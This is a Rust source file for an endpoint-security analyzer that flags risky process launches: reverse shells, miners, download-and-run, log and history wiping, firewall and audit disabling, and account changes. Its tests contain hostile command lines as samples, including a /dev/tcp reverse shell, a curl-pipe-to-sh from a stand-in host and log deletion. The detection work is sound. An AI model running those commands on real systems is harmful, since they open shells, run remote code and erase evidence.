//! The rules over process creations: their settings, what the analyzer keeps, what it raises.

use crate::command::commands;
use crate::detect::{self, Account, Hit};
use edgeguard_analyzer_sdk::tuning::{Quiet, Section, Switch, Tuning, glob, shown_duration};
use edgeguard_analyzer_sdk::{
    CollectError, Config, Entities, Fields, Finding, RuleStatus, Severity,
};
use serde::{Deserialize, Serialize};

/// Command lines longer than this are read up to it (the host cuts them at 16 KiB already).
const MAX_LINE: usize = 16 * 1024;

/// One process creation, as the `ProcessCreate` event carries it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Exec {
    /// The event's Id.
    pub id: String,
    /// When it was observed.
    pub time_ms: u64,
    /// The executable's path.
    pub executable: String,
    /// Its arguments, joined by spaces.
    pub command_line: String,
    /// Who runs it.
    pub user_name: Option<String>,
    /// Their id.
    pub user_id: Option<u32>,
    /// Its process.
    pub process_id: Option<u32>,
    /// The event's fields, for the rules' exceptions.
    pub fields: Vec<(String, String)>,
}

impl Exec {
    /// A process creation from a `ProcessCreate` payload item; None when it is not one.
    pub fn read(id: &str, time_ms: u64, item: &[(String, String)]) -> Option<Exec> {
        let executable = item.field("Executable")?.to_owned();
        let mut command_line = item.field("CommandLine").unwrap_or_default().to_owned();
        if command_line.len() > MAX_LINE {
            let mut cut = MAX_LINE;
            while !command_line.is_char_boundary(cut) {
                cut -= 1;
            }
            command_line.truncate(cut);
        }
        Some(Exec {
            id: id.to_owned(),
            time_ms,
            executable,
            command_line,
            user_name: item
                .field("UserName")
                .filter(|u| !u.is_empty())
                .map(str::to_owned),
            user_id: item.field("UserId").and_then(|u| u.parse().ok()),
            process_id: item.field("ProcessId").and_then(|p| p.parse().ok()),
            fields: item.to_vec(),
        })
    }

    fn entities(&self) -> Entities {
        Entities {
            user_name: self.user_name.clone(),
            user_id: self.user_id,
            process_id: self.process_id,
            executable: Some(self.executable.clone()),
            command_line: Some(self.command_line.clone()),
            ..Entities::none()
        }
    }

    fn who(&self) -> String {
        self.user_name
            .clone()
            .or_else(|| self.user_id.map(|u| format!("uid {u}")))
            .unwrap_or_else(|| "an unknown user".into())
    }
}

/// A rule of this analyzer: its name, what it raises and how to answer it.
struct Rule {
    name: &'static str,
    severity: Severity,
    title: &'static str,
    techniques: &'static [&'static str],
    remediation: &'static str,
}

const RULES: [Rule; 12] = [
    Rule {
        name: "ReverseShell",
        severity: Severity::High,
        title: "Reverse shell",
        techniques: &["T1059.004", "T1071"],
        remediation: "Kill the process and its parent, find how it was started (a web application, a cron job, a compromised account), and block the remote address.",
    },
    Rule {
        name: "CryptoMiner",
        severity: Severity::Medium,
        title: "Crypto coin miner",
        techniques: &["T1496"],
        remediation: "Kill the miner, remove its files and whatever starts it again (cron, systemd units, a container), and find how it got on the device.",
    },
    Rule {
        name: "DownloadRun",
        severity: Severity::Medium,
        title: "File downloaded and run at once",
        techniques: &["T1105", "T1059.004"],
        remediation: "Check what the URL served and what it ran; if nobody installed software this way on purpose, treat the device as compromised.",
    },
    Rule {
        name: "AttackTool",
        severity: Severity::Medium,
        title: "Known attack tool",
        techniques: &["T1588.002"],
        remediation: "Find who ran it and why; remove it unless it is an authorised test (then add an exception).",
    },
    Rule {
        name: "SystemLogsRemoved",
        severity: Severity::Medium,
        title: "Removal of system logs",
        techniques: &["T1070.002"],
        remediation: "Logs are removed to hide an intrusion: look at who ran it and what else they ran, and keep logs off the device too (syslog forwarding).",
    },
    Rule {
        name: "BashHistoryCleared",
        severity: Severity::Low,
        title: "Bash history cleared",
        techniques: &["T1070.003"],
        remediation: "Clearing history hides what was typed: check the account's other activity and its logins.",
    },
    Rule {
        name: "FirewallDisabled",
        severity: Severity::High,
        title: "Firewall disabled",
        techniques: &["T1562.004"],
        remediation: "Restore the firewall's rules (reload its saved rule set), and find who disabled it.",
    },
    Rule {
        name: "AuditDisabled",
        severity: Severity::High,
        title: "Attempt to disable audit logging",
        techniques: &["T1562.012"],
        remediation: "Re-enable auditing (`auditctl -e 1`, restart auditd, reload its rules) and find who turned it off.",
    },
    Rule {
        name: "LocalUserAdded",
        severity: Severity::Medium,
        title: "Local user added",
        techniques: &["T1136.001"],
        remediation: "If the account was not created on purpose, lock or delete it and look for how it was made.",
    },
    Rule {
        name: "LocalUserDeleted",
        severity: Severity::Low,
        title: "Local user deleted",
        techniques: &["T1531"],
        remediation: "If the deletion was not planned, restore the account from configuration management and find who deleted it.",
    },
    Rule {
        name: "UserAddedToGroup",
        severity: Severity::Low,
        title: "Local user added to groups",
        techniques: &["T1098"],
        remediation: "Check that the user should hold the groups' rights (sudo, adm, docker grant root-equivalent access).",
    },
    Rule {
        name: "UserRemovedFromGroup",
        severity: Severity::Low,
        title: "Local user removed from groups",
        techniques: &["T1098"],
        remediation: "If this was not planned, restore the membership and find who changed it.",
    },
];

/// The customizable rule, off until an allow-list is set.
const NOT_ALLOWED: &str = "ProcessNotAllowed";

/// Every rule's settings.
#[derive(Clone, Debug)]
pub struct Settings {
    switches: Vec<Switch>,
    not_allowed: Switch,
    /// Executables allowed to run (`*` globs); empty: the rule is off.
    allowed: Vec<String>,
    /// Miner names and attack tools added to the built-in lists.
    miners: Vec<String>,
    tools: Vec<String>,
    /// How long an alert's key stays quiet.
    suppress_ms: u64,
}

fn names(rule: &Section<'_>, key: &str) -> Result<Vec<String>, CollectError> {
    Ok(rule.strings(key)?.unwrap_or_default())
}

impl Settings {
    /// The settings a configuration asks for: one object per rule by its name
    /// (`{"CryptoMiner": {"names": ["hasher"]}, "AttackTool": {"enabled": false}}`), and
    /// `suppress`.
    pub fn from_config(config: &Config) -> Result<Settings, CollectError> {
        let mut all: Vec<&str> = RULES.iter().map(|r| r.name).collect();
        all.push(NOT_ALLOWED);
        let tuning = Tuning::new(config, &all, &["suppress"])?;
        let mut switches = Vec::with_capacity(RULES.len());
        let (mut miners, mut tools) = (Vec::new(), Vec::new());
        for rule in &RULES {
            let keys: &[&str] = match rule.name {
                "CryptoMiner" | "AttackTool" => &["names"],
                _ => &[],
            };
            let section = tuning.rule(rule.name, keys)?;
            match rule.name {
                "CryptoMiner" => miners = names(&section, "names")?,
                "AttackTool" => tools = names(&section, "names")?,
                _ => {}
            }
            switches.push(section.switch(true, rule.severity)?);
        }
        let section = tuning.rule(NOT_ALLOWED, &["allowed"])?;
        let allowed = names(&section, "allowed")?;
        let not_allowed = section.switch(!allowed.is_empty(), Severity::Low)?;
        if not_allowed.enabled && allowed.is_empty() {
            return Err(CollectError::config(
                "ProcessNotAllowed.allowed",
                "the rule is enabled with nothing allowed: list the executables that may run",
            ));
        }
        Ok(Settings {
            switches,
            not_allowed,
            allowed,
            miners,
            tools,
            suppress_ms: tuning.settings().duration("suppress", 600_000)?,
        })
    }
}

/// What the analyzer keeps between calls (and hands over on a swap). What a previous version
/// did not keep starts empty.
#[derive(Debug, Default, Serialize, Deserialize, PartialEq)]
#[serde(default)]
struct State {
    /// Keys each rule raised for lately.
    quiet: Quiet,
}

/// The analyzer's rules and state.
pub struct ProcessAlerts {
    settings: Settings,
    state: State,
}

impl ProcessAlerts {
    /// No key quiet yet, under `settings`.
    pub fn new(settings: Settings) -> ProcessAlerts {
        ProcessAlerts {
            settings,
            state: State::default(),
        }
    }

    /// The rules as configured.
    pub fn rules(&self) -> Vec<RuleStatus> {
        let s = &self.settings;
        let suppress = shown_duration(s.suppress_ms);
        let mut out: Vec<RuleStatus> = RULES
            .iter()
            .zip(&s.switches)
            .map(|(rule, switch)| {
                let extra = match rule.name {
                    "CryptoMiner" if !s.miners.is_empty() => {
                        format!(", {} names added", s.miners.len())
                    }
                    "AttackTool" if !s.tools.is_empty() => {
                        format!(", {} names added", s.tools.len())
                    }
                    _ => String::new(),
                };
                switch.status(rule.name, format!("suppressed {suppress}{extra}"))
            })
            .collect();
        out.push(s.not_allowed.status(
            NOT_ALLOWED,
            format!("{} executables allowed", s.allowed.len()),
        ));
        out
    }

    /// Takes one process creation in; the findings it raises.
    pub fn exec(&mut self, exec: &Exec) -> Vec<Finding> {
        let line = exec.command_line.as_str();
        let commands = commands(line);
        let mut out = Vec::new();
        let hits: [(usize, Option<Hit>); 8] = [
            (0, detect::reverse_shell(line, &commands)),
            (1, detect::coin_miner(line, &self.settings.miners)),
            (2, detect::download_run(line, &commands)),
            (3, detect::attack_tool(&commands, &self.settings.tools)),
            (4, detect::logs_removed(line, &commands)),
            (5, detect::history_cleared(line, &commands)),
            (6, detect::firewall_disabled(&commands)),
            (7, detect::audit_disabled(&commands)),
        ];
        for (rule, hit) in hits {
            if let Some(hit) = hit {
                out.extend(self.raise(
                    rule,
                    exec,
                    &hit.key,
                    format!("{} ran {}.", exec.who(), hit.what),
                ));
            }
        }
        for change in detect::account_changes(&commands) {
            let (rule, key, text) = match &change {
                Account::Added { user, groups } => (
                    8,
                    user.clone(),
                    match groups {
                        Some(g) => {
                            format!("{} added the local user {user} (groups: {g}).", exec.who())
                        }
                        None => format!("{} added the local user {user}.", exec.who()),
                    },
                ),
                Account::Deleted { user } => (
                    9,
                    user.clone(),
                    format!("{} deleted the local user {user}.", exec.who()),
                ),
                Account::Joined {
                    user,
                    groups,
                    replaced,
                } => (
                    10,
                    format!("{user}:{groups}"),
                    if *replaced {
                        format!("{} set the groups of {user} to {groups}.", exec.who())
                    } else {
                        format!("{} added {user} to {groups}.", exec.who())
                    },
                ),
                Account::Left { user, groups } => (
                    11,
                    format!("{user}:{groups}"),
                    format!("{} removed {user} from {groups}.", exec.who()),
                ),
            };
            out.extend(self.raise(rule, exec, &key, text));
        }
        if self.settings.not_allowed.applies(&exec.fields)
            && !self
                .settings
                .allowed
                .iter()
                .any(|p| glob(p, &exec.executable))
            && self.state.quiet.speak(
                NOT_ALLOWED,
                &exec.executable,
                exec.time_ms,
                self.settings.suppress_ms,
            )
        {
            out.push(
                Finding::alert(NOT_ALLOWED, self.settings.not_allowed.severity, "A process was executed that is not allowed")
                    .description(format!("{} ran {}, which is not among the executables allowed.", exec.who(), exec.executable))
                    .remediation("Find out what the program is; if it belongs on the device, add it to ProcessNotAllowed.allowed.")
                    .techniques(["T1204"])
                    .entities(exec.entities())
                    .cites(&exec.id),
            );
        }
        out
    }

    /// A finding of rule `index` for `key`, unless the rule is off, an exception covers the
    /// process, or the key is quiet.
    fn raise(
        &mut self,
        index: usize,
        exec: &Exec,
        key: &str,
        description: String,
    ) -> Option<Finding> {
        let rule = &RULES[index];
        let switch = &self.settings.switches[index];
        if !switch.applies(&exec.fields)
            || !self
                .state
                .quiet
                .speak(rule.name, key, exec.time_ms, self.settings.suppress_ms)
        {
            return None;
        }
        Some(
            Finding::alert(rule.name, switch.severity, rule.title)
                .description(description)
                .remediation(rule.remediation)
                .techniques(rule.techniques.iter().copied())
                .entities(exec.entities())
                .cites(&exec.id)
                .detail("Matched", key),
        )
    }

    /// Time passing: quiet keys expire.
    pub fn tick(&mut self, now: u64) {
        self.state.quiet.expire(now);
    }

    /// The state, for the next version.
    pub fn save(&self) -> Vec<u8> {
        serde_json::to_vec(&self.state).expect("the state serializes")
    }

    /// The state a previous version saved.
    pub fn restore(&mut self, state: &[u8]) -> Result<(), serde_json::Error> {
        self.state = serde_json::from_slice(state)?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{Value, json};

    fn settings(config: Value) -> Settings {
        Settings::from_config(config.as_object().unwrap()).unwrap()
    }

    fn exec(n: u32, at_s: u64, user: &str, executable: &str, line: &str) -> Exec {
        Exec::read(
            &format!("id-{n}"),
            at_s * 1000,
            &[
                ("Executable".to_owned(), executable.to_owned()),
                ("CommandLine".to_owned(), line.to_owned()),
                ("UserName".to_owned(), user.to_owned()),
                ("UserId".to_owned(), "1000".to_owned()),
                ("ProcessId".to_owned(), (4000 + n).to_string()),
            ],
        )
        .unwrap()
    }

    fn names(findings: &[Finding]) -> Vec<&str> {
        findings.iter().map(|f| f.name.as_str()).collect()
    }

    #[test]
    fn each_rule_raises_for_its_command_once_per_key() {
        let mut a = ProcessAlerts::new(settings(json!({})));
        let cases = [
            (
                "/usr/bin/bash",
                "bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
                "ReverseShell",
            ),
            ("/usr/bin/sh", "sh -c echo cpuminer-multi", "CryptoMiner"),
            (
                "/usr/bin/sh",
                "sh -c curl -s https://x.example/i | sh",
                "DownloadRun",
            ),
            (
                "/usr/bin/hydra",
                "hydra -l root ssh://10.0.0.1",
                "AttackTool",
            ),
            (
                "/usr/bin/rm",
                "rm -f /var/log/auth.log",
                "SystemLogsRemoved",
            ),
            (
                "/usr/bin/rm",
                "rm -f /root/.bash_history",
                "BashHistoryCleared",
            ),
            ("/usr/sbin/iptables", "iptables -F", "FirewallDisabled"),
            ("/usr/sbin/auditctl", "auditctl -e 0", "AuditDisabled"),
            ("/usr/sbin/useradd", "useradd -m eve", "LocalUserAdded"),
            ("/usr/sbin/userdel", "userdel eve", "LocalUserDeleted"),
            (
                "/usr/bin/gpasswd",
                "gpasswd -a bob sudo",
                "UserAddedToGroup",
            ),
            (
                "/usr/bin/gpasswd",
                "gpasswd -d bob sudo",
                "UserRemovedFromGroup",
            ),
        ];
        for (i, (exe, line, rule)) in cases.iter().enumerate() {
            let found = a.exec(&exec(i as u32, 10, "edge", exe, line));
            assert_eq!(names(&found), [*rule], "{line}");
            let f = &found[0];
            assert_eq!(f.evidence, [format!("id-{i}")]);
            assert_eq!(f.entities.command_line.as_deref(), Some(*line));
            assert!(!f.techniques.is_empty() && !f.remediation.is_empty());
            assert!(
                f.description.starts_with("edge ran") || f.description.starts_with("edge "),
                "{}",
                f.description
            );
            // The same thing again soon is the same alert: quiet.
            assert!(
                a.exec(&exec(100 + i as u32, 20, "edge", exe, line))
                    .is_empty(),
                "{line}"
            );
        }
        // After the suppression time, it raises again.
        assert_eq!(
            names(&a.exec(&exec(300, 700, "edge", "/usr/sbin/iptables", "iptables -F"))),
            ["FirewallDisabled"]
        );
        // Ordinary work raises nothing.
        for line in [
            "cargo build --release",
            "apt-get install -y curl",
            "ls -la /var/log",
            "ssh edge@10.0.0.2",
            "docker run --rm busybox true",
            "dpkg -l",
            "sh -c make -j2 && make install",
        ] {
            assert!(
                a.exec(&exec(400, 800, "edge", "/usr/bin/x", line))
                    .is_empty(),
                "{line}"
            );
        }
    }

    #[test]
    fn rules_are_turned_off_tuned_and_excepted() {
        let mut a = ProcessAlerts::new(settings(json!({
            "AttackTool": {"names": ["nmap"], "severity": "High"},
            "CryptoMiner": {"enabled": false},
            "FirewallDisabled": {"except": [{"UserName": "root", "Executable": "/usr/sbin/*tables"}]},
            "suppress": "1m",
        })));
        let tool = a.exec(&exec(1, 0, "edge", "/usr/bin/nmap", "nmap -sV 10.0.0.1"));
        assert_eq!(names(&tool), ["AttackTool"]);
        assert_eq!(tool[0].severity, Severity::High);
        assert!(
            a.exec(&exec(2, 0, "edge", "/usr/bin/xmrig", "xmrig"))
                .is_empty()
        );
        assert!(
            a.exec(&exec(3, 0, "root", "/usr/sbin/iptables", "iptables -F"))
                .is_empty(),
            "excepted"
        );
        assert_eq!(
            names(&a.exec(&exec(4, 0, "edge", "/usr/sbin/iptables", "iptables -F"))),
            ["FirewallDisabled"]
        );
        assert_eq!(
            names(&a.exec(&exec(5, 61, "edge", "/usr/bin/nmap", "nmap 10.0.0.1"))),
            ["AttackTool"],
            "suppressed a minute"
        );
        let rules = a.rules();
        assert_eq!(rules.len(), RULES.len() + 1);
        assert!(rules.iter().any(|r| r.name == "CryptoMiner" && !r.enabled));
        assert!(
            rules
                .iter()
                .any(|r| r.name == "FirewallDisabled" && r.detail.contains("1 exceptions"))
        );
        assert!(rules.iter().any(|r| r.name == NOT_ALLOWED && !r.enabled));
    }

    #[test]
    fn processes_not_allowed_once_the_list_is_set() {
        let mut a = ProcessAlerts::new(settings(json!({
            "ProcessNotAllowed": {"allowed": ["/usr/bin/*", "/usr/sbin/*", "/opt/app/bin/app"]}
        })));
        assert!(a.exec(&exec(1, 0, "edge", "/usr/bin/ls", "ls")).is_empty());
        assert!(
            a.exec(&exec(2, 0, "edge", "/opt/app/bin/app", "app"))
                .is_empty()
        );
        let found = a.exec(&exec(3, 0, "edge", "/tmp/x", "/tmp/x"));
        assert_eq!(names(&found), [NOT_ALLOWED]);
        assert_eq!(found[0].entities.executable.as_deref(), Some("/tmp/x"));
        assert!(
            a.exec(&exec(4, 1, "edge", "/tmp/x", "/tmp/x")).is_empty(),
            "suppressed per executable"
        );
    }

    #[test]
    fn bad_settings_are_named() {
        let err = |config: Value| match Settings::from_config(config.as_object().unwrap()) {
            Err(CollectError::InvalidConfig(m)) => m,
            other => panic!("{other:?}"),
        };
        assert!(err(json!({"ReverseShel": {}})).starts_with("ReverseShel"));
        assert!(err(json!({"CryptoMiner": {"names": "xmrig"}})).starts_with("CryptoMiner.names"));
        assert!(err(json!({"ReverseShell": {"names": []}})).starts_with("ReverseShell.names"));
        assert!(
            err(json!({"ProcessNotAllowed": {"enabled": true}}))
                .starts_with("ProcessNotAllowed.allowed")
        );
        assert!(err(json!({"suppress": "soon"})).starts_with("suppress"));
    }

    #[test]
    fn quiet_keys_survive_a_swap() {
        let mut old = ProcessAlerts::new(settings(json!({})));
        assert_eq!(
            names(&old.exec(&exec(1, 0, "edge", "/usr/sbin/iptables", "iptables -F"))),
            ["FirewallDisabled"]
        );
        let mut new = ProcessAlerts::new(settings(json!({})));
        new.restore(&old.save()).unwrap();
        assert!(
            new.exec(&exec(2, 5, "edge", "/usr/sbin/iptables", "iptables -F"))
                .is_empty()
        );
        assert!(new.restore(b"not json").is_err());
    }

    #[test]
    fn long_lines_are_read_up_to_the_bound() {
        let line = format!("sh -c echo {} ; xmrig", "é".repeat(MAX_LINE));
        let e = exec(1, 0, "edge", "/bin/sh", &line);
        assert!(e.command_line.len() <= MAX_LINE);
        let mut a = ProcessAlerts::new(settings(json!({})));
        assert!(a.exec(&e).is_empty(), "what is past the bound is not read");
    }
}
